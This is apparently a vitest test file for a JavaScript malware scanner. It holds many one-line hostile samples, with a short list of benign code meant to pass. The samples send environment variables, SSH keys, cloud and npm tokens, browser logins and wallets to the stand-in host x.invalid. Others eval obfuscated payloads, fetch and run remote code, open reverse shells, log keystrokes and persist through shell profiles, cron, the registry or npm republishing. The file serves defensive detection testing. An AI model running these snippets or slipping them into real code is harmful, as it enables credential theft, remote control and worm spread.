import { describe, expect, test } from 'vitest';
import { SourceFile } from '../source/source-file.ts';
import { fileRules } from './archive-rules.ts';
import type { Tier } from './rule.ts';

const ranks: Tier[] = ['note', 'review', 'block'];

/** The worst tier that any rule gives a file; null when none fires. */
function tierOf(text: string): Tier | null {
  const file = new SourceFile('index.js', 'javascript', text);
  const tiers = fileRules.flatMap((rule) => [...rule.check(file)].map((hit) => hit.tier ?? rule.tier));
  return tiers.toSorted((a, b) => ranks.indexOf(b) - ranks.indexOf(a))[0] ?? null;
}

const base64 = (text: string) => Buffer.from(text).toString('base64');
const payload = "require('child_process').exec('echo case')";
const encoded = base64(payload);

describe('the environment is sent, however it is reached', () => {
  test.each([
    `const [h, p] = [require('https'), process]; h.request({ host: 'x.invalid' }).end(JSON.stringify(p.env))`,
    `(async () => { const { default: h } = await import('https'); const q = h.request({ host: 'x.invalid' }); q.write(JSON.stringify(process.env)); q.end() })()`,
    `import { request as r } from 'node:https'; import { env as e } from 'node:process'; r('https://x.invalid').end(JSON.stringify(e))`,
    `const r = require, m = ['ht', 'tps'].join(''); r(m).get('https://x.invalid/?' + Buffer.from(JSON.stringify(process['env'])).toString('hex'))`,
    `const g = globalThis, k = 'pro' + 'cess'; fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(g[k].env) })`,
    `class S { static h = require('https'); send(d) { const q = S.h.request({ host: 'x.invalid' }); q.end(d) } } new S().send(JSON.stringify(process.env))`,
    `const api = { net: require('https'), all() { return JSON.stringify(process.env) } }; api.net.request({ host: 'x.invalid' }).end(api.all())`,
    `function post(lib, data) { const q = lib.request({ host: 'x.invalid', method: 'POST' }); q.end(data) } post(require('https'), JSON.stringify(process.env))`,
    `const { request } = Reflect.get(module, 'require').call(module, 'https'); request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
    `let h; try { h = require('node:https') } catch (e) { h = require('http') } h.request({ host: 'x.invalid' }).end(JSON.stringify({ ...process.env }))`,
    `const out = {}; for (const k of Object.keys(process.env)) out[k] = process.env[k]; fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(out) })`,
    `const s = require('net').connect(4444, 'x.invalid', () => { s.write(JSON.stringify(process.env)) })`,
    `const W = require('ws'); const w = new W('wss://x.invalid'); w.on('open', () => w.send(JSON.stringify(process.env)))`,
    `var x = new XMLHttpRequest(); x.open('POST', 'https://x.invalid'); x.send(JSON.stringify(process.env))`,
    `require('child_process').exec('env', (e, out) => fetch('https://x.invalid', { method: 'POST', body: out }))`,
    `require('child_process').execSync('env | curl -X POST -d @- https://x.invalid')`,
    `require('child_process').execSync("curl -d '" + JSON.stringify(process.env) + "' https://x.invalid")`,
    `const m = process.binding('natives'); const q = module.constructor._load('https').request({ host: 'x.invalid' }); q.end(JSON.stringify(process.env))`,
    `const f = (0, eval)('require'); f('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
    `const h = require('https'); const send = h.request.bind(h, { host: 'x.invalid', method: 'POST' }); send().end(JSON.stringify(process.env))`,
    `require('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.report.getReport().environmentVariables))`,
    `const fs = require('fs'); require('https').request({ host: 'x.invalid' }).end(fs.readFileSync('/proc/self/environ'))`,
    `define(['https'], function (h) { h.request({ host: 'x.invalid' }).end(JSON.stringify(process.env)) })`,
    `!function(t){var n={};function e(r){if(n[r])return n[r].exports;var o=n[r]={exports:{}};return t[r].call(o.exports,o,o.exports,e),o.exports}e(0)}([function(t,n,e){const h=e(1);h.request({host:'x.invalid'}).end(JSON.stringify(process.env))},function(t,n){t.exports=require('https')}])`,
    `const dns = require('dns'); dns.lookup(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60) + '.x.invalid', () => {})`,
    `require('https').get({ host: 'x.invalid', path: '/', headers: { cookie: Buffer.from(JSON.stringify(process.env)).toString('base64') } })`,
    `const q = require('querystring').stringify(process.env); require('http').get('http://x.invalid/?' + q)`,
    `const m = require('nodemailer').createTransport({ host: 'smtp.x.invalid' }); m.sendMail({ to: 'a@x.invalid', text: JSON.stringify(process.env) })`,
    `const u = new URL('https://x.invalid'); for (const [k, v] of Object.entries(process.env)) u.searchParams.append(k, v); fetch(u)`,
    `module.exports = (h) => { const q = h.request({ hostname: 'x.invalid', method: 'POST' }); q.end(JSON.stringify(process.env)) }`,
    `module.exports = (c) => c.execSync('curl -d "' + JSON.stringify(process.env) + '" https://x.invalid')`,
  ])('%s', (text) => {
    expect(ranks.indexOf(tierOf(text) ?? 'note')).toBeGreaterThan(0);
  });
});

describe('text becomes code', () => {
  test.each([
    `eval(atob('${encoded}'))`,
    `eval.call(null, Buffer.from('${encoded}', 'base64').toString())`,
    `const e = eval; e(Buffer.from('${encoded}', 'base64') + '')`,
    `globalThis['ev' + 'al'](atob('${encoded}'))`,
    `(function () {}).constructor(atob('${encoded}'))()`,
    `(() => {})['constructor'](Buffer.from('${encoded}', 'base64').toString())()`,
    `Object.getPrototypeOf(async function () {}).constructor(atob('${encoded}'))()`,
    `const F = [].flat.constructor; F(atob('${encoded}'))()`,
    `''['at']['constructor'](atob('${encoded}'))()`,
    `Reflect.construct(Function, [atob('${encoded}')])()`,
    `Reflect.apply(eval, null, [atob('${encoded}')])`,
    `setTimeout(atob('${encoded}'), 0)`,
    `new (require('vm').Script)(atob('${encoded}')).runInThisContext()`,
    `require('vm').runInNewContext(Buffer.from('${Buffer.from(payload).toString('hex')}', 'hex').toString(), { require })`,
    `const m = new (require('module'))(); m._compile(atob('${encoded}'), 'x.js')`,
    `import('data:text/javascript,' + encodeURIComponent(atob('${encoded}')))`,
    `import("data:text/javascript;base64," + "${encoded}")`,
    `new (require('worker_threads').Worker)(atob('${encoded}'), { eval: true })`,
    `require('child_process').spawn('node', ['--eval', atob('${encoded}')], { detached: true })`,
    `require('child_process').execFile(process.argv[0], ['-e', Buffer.from('${encoded}', 'base64').toString()])`,
    `require('child_process').execSync(Buffer.from('${base64('curl https://x.invalid/a')}', 'base64').toString())`,
    `const c = require('child_process').spawn('node', ['-']); c.stdin.write(atob('${encoded}'))`,
    `atob('${encoded}').split('').reduce((a, c) => a + c, '') && [atob('${encoded}')].map(eval)`,
    `[atob('${encoded}')].forEach(eval)`,
    `Promise.resolve('${encoded}').then(atob).then(eval)`,
    `const k = 'key'; const x = (s) => { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); return o }; new Function(x(require('fs').readFileSync('d.bin', 'utf8')))()`,
    `const z = require('zlib'); eval(z.gunzipSync(Buffer.from(require('./d.json').x, 'base64')).toString())`,
    `const d = require('crypto').createDecipheriv('aes-256-cbc', k, iv); eval(d.update(t, 'hex', 'utf8') + d.final('utf8'))`,
    `const C = require('crypto-js'); eval(C.AES.decrypt(t, 'k').toString(C.enc.Utf8))`,
    `function d(t) { return t.split(',').map((n) => String.fromCharCode(n - 3)).join('') } Function(d('${[...payload].map((c) => c.charCodeAt(0) + 3).join(',')}'))()`,
    `const t = '${[...payload].toReversed().join('').replaceAll("'", "\\'")}'; eval(t.split('').reverse().join(''))`,
    `const r = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13))); eval(r("erdhver('puvyq_cebprff').rkrp('rpub pnfr')"))`,
    `eval(unescape('${[...payload].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')}'))`,
    `require('fs').writeFileSync('/tmp/x.js', Buffer.from('${encoded}', 'base64')); require('/tmp/x.js')`,
    `Function\`\${atob('${encoded}')}\`()`,
    `fetch('https://x.invalid/c').then((r) => r.text()).then((t) => new Function(t)())`,
    `fetch('https://x.invalid/c').then((r) => r.json()).then(({ code }) => eval(code))`,
    `(async () => { const r = await fetch('https://x.invalid/c'); const t = await r.text(); (0, eval)(t) })()`,
    `require('axios').get('https://x.invalid/c').then(({ data }) => { new Function('require', data.m)(require) })`,
    `require('https').get('https://x.invalid/c', (r) => { const c = []; r.on('data', (d) => c.push(d)); r.on('end', () => eval(Buffer.concat(c).toString())) })`,
    `require('https').get('https://x.invalid/c', (r) => { let s = ''; r.on('data', (d) => { s += d }).on('end', () => require('vm').runInThisContext(s)) })`,
    `const w = new WebSocket('wss://x.invalid'); w.onmessage = (m) => eval(m.data)`,
    `require('dns').resolveTxt('c.x.invalid', (e, r) => eval(Buffer.from(r[0].join(''), 'base64').toString()))`,
    `const get = (u) => new Promise((ok) => require('http').get(u, (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => ok(b)) })); get('http://x.invalid').then((b) => require('child_process').exec(b))`,
    `require('http').get('http://x.invalid', (r) => r.on('data', (d) => require('child_process').execSync(d.toString())))`,
    `const cp = require('child_process'); fetch('https://x.invalid/u').then((r) => r.text()).then((u) => cp.exec('curl -s ' + u + ' | sh'))`,
    `const { execSync } = require('child_process'); execSync('curl -s https://x.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')`,
    `const { execSync } = require('child_process'); execSync('wget -q https://x.invalid/a.js -O /tmp/a.js; node /tmp/a.js')`,
    `const fs = require('fs'), cp = require('child_process'); require('https').get('https://x.invalid/a', (r) => { const f = fs.createWriteStream('/tmp/a'); r.pipe(f); f.on('finish', () => { fs.chmodSync('/tmp/a', 0o755); cp.spawn('/tmp/a') }) })`,
    `const fs = require('fs'); fetch('https://x.invalid/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/a.js', t); require('/tmp/a.js') })`,
    `const fs = require('fs'), cp = require('child_process'), p = require('path').join(require('os').tmpdir(), 'a.exe'); fetch('https://x.invalid/a').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync(p, Buffer.from(b)); cp.exec(p) })`,
    `const s = require('net').connect(4444, 'x.invalid'); s.on('data', (d) => require('child_process').exec(d.toString(), (e, o) => s.write(o)))`,
    `const s = require('tls').connect(443, 'x.invalid'), sh = require('child_process').spawn('/bin/bash', ['-i']); s.pipe(sh.stdin); sh.stdout.pipe(s)`,
    `const W = require('ws'), { spawn } = require('child_process'); const w = new W('ws://x.invalid'), sh = spawn('sh'); w.on('message', (m) => sh.stdin.write(m)); sh.stdout.on('data', (d) => w.send(d))`,
    `const s = new (require('net').Socket)(); s.connect(1, 'x.invalid', () => { require('child_process').spawn('/bin/sh', [], { stdio: [s, s, s] }) })`,
    `const io = require('socket.io-client')('https://x.invalid'); io.on('cmd', (c) => require('child_process').exec(c, (e, o) => io.emit('out', o)))`,
    `require('child_process').exec('powershell -w hidden -c "iwr https://x.invalid/a.ps1 | iex"')`,
    `require('child_process').spawn('sh', ['-c', 'curl -s https://x.invalid/a | sh'])`,
    `require('child_process').spawn('python3', ['-c', "import urllib.request as u;exec(u.urlopen('http://x.invalid/a').read())"])`,
    `const s=[...require('./t.json').n].map(c=>c.codePointAt(0)-0xfe00);eval(Buffer.from(s).toString())`,
    `const d = require('./logo.png.js'); eval(d.map((n) => String.fromCharCode(n)).join(''))`,
    `const f = require('fs').readFileSync(__dirname + '/logo.png'); eval(f.slice(f.indexOf('IEND') + 8).toString())`,
    `eval("require('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.env))")`,
    `new Function('require', "require('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.env))")(require)`,
  ])('%s', (text) => {
    expect(ranks.indexOf(tierOf(text) ?? 'note')).toBeGreaterThan(0);
  });
});

describe('theft and persistence', () => {
  test.each([
    `const fs = require('fs'), p = require('path'), os = require('os'); const t = ['.ssh/id_rsa', '.npmrc'].map((f) => fs.readFileSync(p.join(os.homedir(), f))); fetch('https://x.invalid', { method: 'POST', body: t.join() })`,
    `const fs = require('fs'); const b = process.env.APPDATA + '/../Local/Google/Chrome/User Data/Default/Login Data'; fs.readFile(b, (e, d) => require('axios').post('https://x.invalid', d))`,
    `const { homedir } = require('os'); const f = require('fs').readFileSync(\`\${homedir()}/.config/gcloud/application_default_credentials.json\`); require('https').request({ host: 'x.invalid' }).end(f)`,
    `const fs = require('fs').promises; (async () => { const d = await fs.readFile('.env.production'); await fetch('https://x.invalid', { method: 'POST', body: d }) })()`,
    `const c = require('fs').readFileSync(require('path').resolve(process.cwd(), '.env')).toString(); require('https').get('https://x.invalid/?d=' + encodeURIComponent(c))`,
    `document.addEventListener('keydown', (e) => { b += e.key; navigator.sendBeacon('https://x.invalid', b) }); let b = ''`,
    `const io = require('iohook'); let b = ''; io.on('keydown', (e) => { b += e.keychar; require('axios').post('https://x.invalid', b) }); io.start()`,
    `setInterval(async () => { const t = await require('clipboardy').read(); fetch('https://x.invalid', { method: 'POST', body: t }) }, 1000)`,
    `require('screenshot-desktop')().then((i) => require('axios').post('https://x.invalid', i))`,
    `const k = require('keytar'); k.findCredentials('x').then((c) => fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(c) }))`,
    `const t = require('child_process').execSync('security find-generic-password -wa Chrome'); fetch('https://x.invalid', { method: 'POST', body: t })`,
    `require('child_process').execSync('cat ~/.aws/credentials | curl -d @- https://x.invalid')`,
    `require('child_process').exec('tar czf - ~/.ssh | nc x.invalid 80')`,
    `const t = require('child_process').execSync('gh auth token').toString(); fetch('https://x.invalid', { method: 'POST', body: t })`,
    `const t = require('child_process').execSync('npm config get //registry.example/:_authToken').toString(); fetch('https://x.invalid/' + t)`,
    `const d = ['.claude/.credentials.json', '.config/gh/hosts.yml'].map((f) => require('os').homedir() + '/' + f); for (const f of d) require('https').request({ host: 'x.invalid' }).end(require('fs').readFileSync(f))`,
    `const { OPENAI_API_KEY, ANTHROPIC_API_KEY, GITHUB_TOKEN, NPM_TOKEN } = process.env; fetch('https://x.invalid', { method: 'POST', body: [OPENAI_API_KEY, ANTHROPIC_API_KEY, GITHUB_TOKEN, NPM_TOKEN].join() })`,
    `const fs = require('fs'), w = require('os').homedir() + '/.config/solana/id.json'; if (fs.existsSync(w)) fetch('https://x.invalid', { method: 'POST', body: fs.readFileSync(w) })`,
    `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then((r) => r.text()).then((t) => fetch('https://x.invalid', { method: 'POST', body: t }))`,
    `const fs = require('fs'); for (const d of fs.readdirSync(process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn')) fetch('https://x.invalid/' + d)`,
    `const os = require('os'), o = { h: os.hostname(), u: os.userInfo().username }; fetch('https://api.telegram.org/bot' + T + '/sendMessage?text=' + JSON.stringify(o))`,
    `const o = require('os').hostname(); require('dns').resolve(o + '.x.invalid', () => {})`,
    `require('child_process').exec('nslookup ' + require('os').hostname() + '.x.invalid')`,
    `require('fs').appendFileSync(require('path').join(require('os').homedir(), '.zshrc'), 'node /tmp/.a &')`,
    `const { homedir } = require('os'); for (const f of ['.bashrc', '.profile']) require('fs').appendFileSync(homedir() + '/' + f, 'x')`,
    `require('child_process').execSync("echo 'node /tmp/a' >> ~/.bashrc")`,
    `require('child_process').exec('(crontab -l; echo "* * * * * node /tmp/a") | crontab -')`,
    `const fs = require('fs'), os = require('os'); fs.writeFileSync(os.homedir() + '/.config/systemd/user/a.service', '[Service]'); require('child_process').execSync('systemctl --user enable a')`,
    `require('fs').writeFileSync(process.env.HOME + '/Library/LaunchAgents/com.a.plist', x)`,
    `require('fs').copyFileSync(__filename, require('path').join(process.env.APPDATA, 'Microsoft/Windows/Start Menu/Programs/Startup/a.js'))`,
    `require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a /d "node a.js"')`,
    `require('child_process').exec('schtasks /create /tn a /tr "node a.js" /sc onlogon')`,
    `require('fs').writeFileSync(require('path').join(process.cwd(), '.git', 'hooks', 'pre-commit'), 'node /tmp/a')`,
    `const p = require('path').join(require('os').homedir(), '.claude', 'settings.json'), fs = require('fs'); const s = JSON.parse(fs.readFileSync(p)); s.hooks = {}; fs.writeFileSync(p, JSON.stringify(s))`,
    `require('fs').writeFileSync(require('os').homedir() + '/.cursor/mcp.json', x)`,
    `require('fs').appendFile(require('os').homedir() + '/.ssh/authorized_keys', 'ssh-rsa AAAA', () => {})`,
    `require('fs').writeFileSync('.github/workflows/a.yml', x)`,
    `require('fs').unlinkSync(__filename)`,
    `const fs = require('fs'); fs.copyFileSync(__dirname + '/package.md', __dirname + '/package.json')`,
    `require('fs').writeFileSync(require.resolve('axios/index.js'), x)`,
    `require('fs').writeFileSync(require('path').join(process.cwd(), 'node_modules', 'axios', 'index.js'), x)`,
    `const fs = require('fs'), { execSync } = require('child_process'); const p = require('./package.json'); p.name = 'x' + Math.random(); fs.writeFileSync('./package.json', JSON.stringify(p)); execSync('npm publish')`,
    `const fs = require('fs'), { spawnSync } = require('child_process'); const p = JSON.parse(fs.readFileSync(d + '/package.json')); p.scripts.postinstall = 'node b.js'; fs.writeFileSync(d + '/package.json', JSON.stringify(p)); spawnSync('npm', ['publish'], { cwd: d })`,
  ])('%s', (text) => {
    expect(ranks.indexOf(tierOf(text) ?? 'note')).toBeGreaterThan(0);
  });
});

describe('names and texts that are reached in still other ways', () => {
  test.each([
    `const p = new Proxy(process, {}); fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(p.env) })`,
    `function* g() { yield process.env } for (const e of g()) fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(e) })`,
    `const E = require('events'), e = new E(); e.on('x', (d) => require('https').request({ host: 'x.invalid' }).end(d)); e.emit('x', JSON.stringify(process.env))`,
    `const { Worker } = require('worker_threads'); new Worker("require('https').request({host:'x.invalid'}).end(JSON.stringify(process.env))", { eval: true })`,
    `const m = { get h() { return require('https') }, get d() { return JSON.stringify(process.env) } }; m.h.request({ host: 'x.invalid' }).end(m.d)`,
    `let a = require('fs'); a = require('https'); a.request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
    `const \\u0070 = process; fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(p.env) })`,
    `module.exports = async ({ h = require('https'), e = process.env } = {}) => h.request({ host: 'x.invalid' }).end(JSON.stringify(e))`,
    `const mods = ['https', 'os'].map(require); mods[0].request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
    `const [h, o] = ['https', 'os'].map((m) => require(m)); h.request({ host: 'x.invalid' }).end(JSON.stringify({ ...process.env, o: o.hostname() }))`,
    `const r = eval('req' + 'uire'); r('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
    `export default { async run() { const { request } = await import('node:https'); request({ host: 'x.invalid' }).end(JSON.stringify(process.env)) } }`,
    `Promise.all([import('https'), import('os')]).then(([h, o]) => h.request({ host: 'x.invalid' }).end(JSON.stringify({ e: process.env, o: o.hostname() })))`,
    `const { default: ax } = require('axios'); const c = ax.create({ baseURL: 'https://x.invalid' }); c.post('/', process.env)`,
    `class B { #e = process.env; #h = require('https'); run = () => { const q = this.#h.request({ host: 'x.invalid' }); q.end(JSON.stringify(this.#e)) } } new B().run()`,
    `const lib = {}; lib.http = require('https'); lib.env = () => process.env; function run({ http, env }) { http.request({ host: 'x.invalid' }).end(JSON.stringify(env())) } run(lib)`,
    `const s = (...a) => JSON.stringify(...a); require('https').request({ host: 'x.invalid' }).end(s(process.env))`,
    `const send = (d) => { const h = require('https'); h.request({ host: 'x.invalid' }, () => {}).end(d) }; setTimeout(send, 1000, JSON.stringify(process.env))`,
    `const u = require('url').parse('https://x.invalid'); u.method = 'POST'; const q = require('https').request(u); q.write(JSON.stringify(process.env)); q.end()`,
    `require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(require('https').request({ host: 'x.invalid', method: 'POST' }))`,
    `const form = document.querySelector('form'); form.addEventListener('submit', () => fetch('https://x.invalid', { method: 'POST', body: document.querySelector('input[type=password]').value }))`,
    `eval(new Buffer('${encoded}', 'base64').toString())`,
    `eval(Buffer.from(process.env.npm_package_config_x, 'base64').toString())`,
    `const t = require('./package.json').x; eval(Buffer.from(t, 'hex').toString())`,
    `var s = '${encoded}'; var f = new Function(Buffer.from(s, 'base64')); f()`,
    `const c = ['e', 'v', 'a', 'l'].join(''); global[c](atob('${encoded}'))`,
    `require('vm').compileFunction(atob('${encoded}'))()`,
    `(async()=>{}).constructor(atob('${encoded}'))()`,
    `new Function(...[atob('${encoded}')])()`,
    `require('module').prototype._compile.call(module, atob('${encoded}'), '')`,
    `process.mainModule.constructor._load(atob('Y2hpbGRfcHJvY2Vzcw==')).exec(atob('ZWNobyBjYXNl'))`,
    `const Y = (s, k) => Buffer.from(s, 'base64').map((c, i) => c ^ k.charCodeAt(i % k.length)).toString(); eval(Y('abcd', 'k'))`,
    `var _ = {a: function (x) { return x.split('').map(function (c) { return String.fromCharCode(c.charCodeAt(0) - 1) }).join('') }}; eval(_.a('dpotpmf/mph)2*<dpotpmf/mph)3*'))`,
    `require('child_process').execFile('node', ['-e', "fetch('https://x.invalid').then(r=>r.text()).then(eval)"])`,
    `const c = require('child_process'); c.exec('node -e "' + atob('${encoded}') + '"')`,
    `const s = require('child_process').spawn('node'); s.stdin.end(Buffer.from('${encoded}', 'base64'))`,
    `import { writeFile } from 'fs/promises'; await writeFile('/tmp/x.mjs', atob('${encoded}')); await import('/tmp/x.mjs')`,
    `const d = await (await fetch('https://x.invalid/m.js')).text(); await import('data:text/javascript,' + encodeURIComponent(d))`,
    `import('https://x.invalid/m.js')`,
    `const { Connection } = require('@solana/web3.js'); new Connection('https://x.invalid').getTransaction(x).then((t) => eval(t.memo))`,
    `const e = require('ethers'); const c = new e.Contract(a, i, p); c.get().then((s) => require('child_process').exec(Buffer.from(s, 'hex').toString()))`,
    `require('child_process').exec('npm install http://x.invalid/p.tgz')`,
    `require('child_process').execSync('npx -y http://x.invalid/p.tgz')`,
    `const app = require('express')(); app.post('/x', (q, r) => r.send(require('child_process').execSync(q.body.c)))`,
    `require('http').createServer((q, r) => { r.end(eval(decodeURIComponent(q.url.slice(1)))) }).listen(1337)`,
  ])('%s', (text) => {
    expect(ranks.indexOf(tierOf(text) ?? 'note')).toBeGreaterThan(0);
  });
});

describe('honest code is quiet', () => {
  test.each([
    `module.exports = (t) => new Function('d', 'with (d) { return \`' + t + '\` }')`,
    `module.exports = (m) => WebAssembly.instantiate(Buffer.from('${base64('\0asm')}', 'base64'))`,
    `fetch('https://api.example/x', { headers: { authorization: 'Bearer ' + process.env.NPM_TOKEN } })`,
    `const { NODE_ENV, API } = process.env; fetch(API, { method: 'POST', body: JSON.stringify({ mode: NODE_ENV }) })`,
    `require('child_process').spawn('tsc', ['-p', '.'], { env: { ...process.env, A: '1' }, stdio: 'inherit' }); fetch('https://api.example/latest')`,
    `const c = require('child_process'); module.exports = (u) => c.exec((process.platform === 'darwin' ? 'open ' : 'xdg-open ') + u)`,
    `require('dotenv').config(); fetch(process.env.URL)`,
    `const f = require('fs').readFileSync('.env', 'utf8'); for (const l of f.split('\\n')) { const [k, v] = l.split('='); process.env[k] = v }`,
    `const p = JSON.parse(require('fs').readFileSync('package.json')); p.version = v; require('fs').writeFileSync('package.json', JSON.stringify(p)); require('child_process').execSync('npm publish')`,
    `require('fs').writeFileSync(require('path').join(__dirname, 'dist', 'index.js'), code)`,
    `const h = require('os').homedir(); require('fs').mkdirSync(h + '/.cache/tool', { recursive: true }); require('fs').writeFileSync(h + '/.cache/tool/x.json', '{}')`,
    `const d = (s) => Buffer.from(s, 'base64').toString(); module.exports = JSON.parse(d(x))`,
    `setTimeout(() => done(), 100); setInterval(tick, 1000)`,
    `const m = await import('./locale/' + name + '.js')`,
    `const ws = new (require('ws').WebSocketServer)({ port: 1 }); ws.on('connection', (s) => s.send('hi')); require('child_process').spawn('vite')`,
    `document.addEventListener('keydown', (e) => { if (e.key === 'Escape') close() }); fetch('/api')`,
    `const hash = (s) => { let h = 0; for (let i = 0; i < s.length; i++) h = (h << 5) ^ s.charCodeAt(i); return h }; new Function('return this')()`,
    `fetch('https://registry.example/x').then((r) => r.json()).then(({ version }) => console.log(version)); require('child_process').execSync('git --version')`,
  ])('%s', (text) => {
    expect(['note', null]).toContain(tierOf(text));
  });
});
